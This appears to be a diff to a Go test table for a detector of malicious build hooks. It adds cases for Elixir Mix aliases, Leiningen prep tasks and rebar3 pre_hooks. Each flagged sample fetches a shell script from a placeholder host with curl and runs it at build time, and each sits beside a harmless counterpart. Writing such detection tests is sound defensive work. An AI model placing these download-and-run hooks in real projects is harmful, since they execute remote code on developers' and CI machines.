@@ -127,6 +127,15 @@ var registry = []Rule{
 		// copy() of a URL is a download, and a one-liner's include runs it.
 		{"composer.json", "{\n  \"scripts\": {\n    \"post-autoload-dump\": \"php -r \\\"copy('https://x.invalid/o.php', sys_get_temp_dir().'/o.php'); include sys_get_temp_dir().'/o.php';\\\"\"\n  }\n}", 3, false},
 		{"composer.json", "{\n  \"scripts\": {\n    \"post-root-package-install\": [\"@php -r \\\"file_exists('.env') || copy('.env.example', '.env');\\\"\"],\n    \"post-autoload-dump\": [\"@php artisan package:discover --ansi\"]\n  }\n}", 0, true},
+		// Mix's cmd task in an alias (one named deps.get replaces the task
+		// every CI job runs), Leiningen's shell task in :prep-tasks and
+		// rebar3's hooks run their commands through the shell.
+		{"mix.exs", "defp aliases do\n  [\"deps.get\": [\"cmd curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\", \"cmd sh /tmp/b.sh\", \"deps.get\"]]\nend", 2, false},
+		{"mix.exs", "defp aliases do\n  [\n    setup: [\"deps.get\", \"assets.setup\", \"cmd npm install --prefix assets\"],\n    \"assets.build\": [\"cmd --cd assets npm run build\", \"esbuild default\"]\n  ]\nend", 0, true},
+		{"project.clj", "(defproject x \"0.1.0\"\n  :prep-tasks [[\"shell\" \"curl\" \"-fsSLo\" \"/tmp/b.sh\" \"https://x.invalid/b.sh\"] [\"shell\" \"sh\" \"/tmp/b.sh\"] \"javac\"])", 2, false},
+		{"project.clj", "(defproject x \"0.1.0\"\n  :prep-tasks [[\"shell\" \"make\" \"-C\" \"native\"] \"javac\"]\n  :aliases {\"ui\" [\"shell\" \"sh\" \"-c\" \"cd ui && npm test\"]})", 0, true},
+		{"rebar.config", "{pre_hooks, [{compile, \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"},\n             {compile, \"sh /tmp/b.sh\"}]}.", 2, false},
+		{"rebar.config", "{pre_hooks, [{\"(linux|darwin)\", compile, \"make -C c_src\"},\n             {\"(freebsd)\", compile, \"gmake -C c_src\"}]}.", 0, true},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
